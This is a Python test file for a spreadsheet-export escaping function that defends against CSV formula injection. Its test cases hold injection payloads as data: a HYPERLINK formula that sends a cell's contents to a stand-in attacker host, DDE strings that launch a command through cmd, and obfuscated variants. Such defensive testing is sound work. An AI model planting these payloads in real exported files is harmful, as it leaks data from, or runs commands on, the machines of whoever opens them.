"""No value that leaves in a CSV is carried out by a spreadsheet."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aurum_data.rules.spreadsheets import as_text

DANGEROUS = "=+-@\t\r|%\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("https://evil.example?"&A1,"Click")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "\x00=1+1",
        "\uff1d1+1", "%0A=1", "|x",
    ],
)  # fmt: skip
def test_formulas_become_text(value: str) -> None:
    assert as_text(value) == f"'{value}"


@pytest.mark.parametrize(
    "value", ["", "Ada", "O'Hara", "+1 (212) 555-0100", "-12.50", "11215", "a=b", "ada@example.com", "3 - 4"]
)
def test_people_and_numbers_stay_as_they_are(value: str) -> None:
    assert as_text(value) == value


@given(st.text())
def test_what_is_left_to_begin_a_formula_is_a_number(value: str) -> None:
    written = as_text(value)
    assert written.removeprefix("'") == value.removeprefix("'")
    if written.lstrip().startswith(tuple("=@|%\uff1d\uff0b\uff0d\uff20")):
        raise AssertionError(written)
    if written.lstrip().startswith(("+", "-")):
        assert not any(letter.isalpha() or letter in "|!'\"" for letter in written)
